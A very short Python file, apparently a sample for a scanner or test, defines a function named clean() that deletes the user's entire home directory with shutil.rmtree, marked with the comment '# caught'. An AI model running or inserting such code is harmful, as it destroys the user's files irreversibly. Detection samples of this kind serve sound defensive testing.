import os
import shutil


def clean():
    shutil.rmtree(os.path.expanduser("~"))  # caught
